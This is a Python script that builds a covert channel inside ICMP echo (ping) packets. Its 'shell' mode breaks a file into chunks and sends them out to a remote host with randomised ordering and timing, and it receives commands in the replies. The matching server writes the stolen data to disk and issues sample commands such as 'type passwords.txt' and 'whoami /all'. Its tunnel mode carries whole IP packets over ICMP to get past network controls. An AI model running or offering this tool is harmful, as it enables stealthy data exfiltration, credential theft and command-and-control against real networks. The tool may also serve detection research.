#!/usr/bin/env python3
"""Channels in echo requests whose other end answers by itself (its kernel must not).

usage: icmp_channel.py shell ADDRESS FILE CHUNK_BYTES POLLS PAUSE_S SEED   polls with little, sends in between, gets commands
       icmp_channel.py tun ADDRESS OWN_ADDRESS                            a tunnel for whole packets, client
       icmp_channel.py shell-server ADDRESS FILE | tun-server ADDRESS OWN_ADDRESS   the other ends
"""
import fcntl, os, random, select, socket, struct, subprocess, sys, time

IDENTITY = 0x1DEA


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def echo(kind, number, body):
    head = struct.pack("!BBHHH", kind, 0, 0, IDENTITY, number & 0xFFFF)
    return struct.pack("!BBHHH", kind, 0, checksum(head + body), IDENTITY, number & 0xFFFF) + body


def raw(address=""):
    """Bound to an address, it answers from there and not from the machine's first one."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.setsockopt(socket.SOL_SOCKET, 33, 8 << 20)
    s.bind((address, 0))
    return s


def received(s, kind):
    """Peer, own address, sequence and body of the next message of that kind, or none."""
    packet = s.recv(65535)
    icmp = packet[(packet[0] & 15) * 4 :]
    if icmp[0] != kind or struct.unpack("!H", icmp[4:6])[0] != IDENTITY:
        return None
    return socket.inet_ntoa(packet[12:16]), struct.unpack("!H", icmp[6:8])[0], icmp[8:]


def shell(address, path, chunk, polls, pause, seed):
    random.seed(seed)
    s, data = raw(), open(path, "rb").read()
    turns = list(range(0, len(data), chunk)) + [-1] * polls
    turns.sort(key=lambda at: at if at >= 0 else random.randrange(len(data)))
    for number, at in enumerate(turns):
        body = struct.pack("!i", at) + (data[at : at + chunk] if at >= 0 else b"")
        for _ in range(5):
            s.sendto(echo(8, number, body), (address, 0))
            until = time.monotonic() + 1.0
            while (left := until - time.monotonic()) > 0 and select.select([s], [], [], left)[0]:
                found = received(s, 0)
                if found and found[1] == number & 0xFFFF:
                    break
            else:
                continue
            break
        time.sleep(pause * random.uniform(0.5, 1.5))


def shell_server(address, path):
    s, out = raw(address), os.open(path, os.O_CREAT | os.O_WRONLY)
    print("ready", flush=True)
    while True:
        found = received(s, 8)
        if not found:
            continue
        peer, number, body = found
        at = struct.unpack("!i", body[:4])[0]
        if at >= 0:
            os.pwrite(out, body[4:], at)
        command = random.choice([b"", b"", b"dir C:\\Users\r\n", b"type passwords.txt\r\n", b"whoami /all\r\n"])
        s.sendto(echo(0, number, command), (peer, 0))


def open_tun(own):
    tun = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(tun, 0x400454CA, struct.pack("16sH", b"icmp0", 0x1001))
    for command in (f"address add {own}/24 dev icmp0", "link set icmp0 mtu 1200 up"):
        subprocess.run(["ip", *command.split()], check=True)
    print("ready", flush=True)
    return tun


def tun_client(address, own):
    tun, s, number = open_tun(own), raw(), 0
    while True:
        # A poll now and then lets the other end answer with what waits there.
        ready = select.select([tun, s], [], [], 0.05)[0]
        if s in ready and (found := received(s, 0)) and found[2]:
            os.write(tun, found[2])
        if tun in ready or not ready:
            number += 1
            s.sendto(echo(8, number, os.read(tun, 2000) if tun in ready else b""), (address, 0))


def tun_server(address, own):
    tun, s, waiting = open_tun(own), raw(address), []
    while True:
        ready = select.select([tun, s], [], [])[0]
        if s in ready and (found := received(s, 8)):
            peer, number, body = found
            if body:
                os.write(tun, body)
            waiting.append((peer, number))
            waiting = waiting[-50:]
        while waiting and select.select([tun], [], [], 0)[0]:
            peer, number = waiting.pop(0)
            s.sendto(echo(0, number, os.read(tun, 2000)), (peer, 0))
        if tun in ready and not waiting:
            time.sleep(0.005)


verb = sys.argv[1]
if verb == "shell":
    address, path, chunk, polls, pause, seed = sys.argv[2:]
    shell(address, path, int(chunk), int(polls), float(pause), int(seed))
elif verb == "shell-server":
    shell_server(*sys.argv[2:])
elif verb == "tun":
    tun_client(sys.argv[2], sys.argv[3])
else:
    tun_server(*sys.argv[2:])
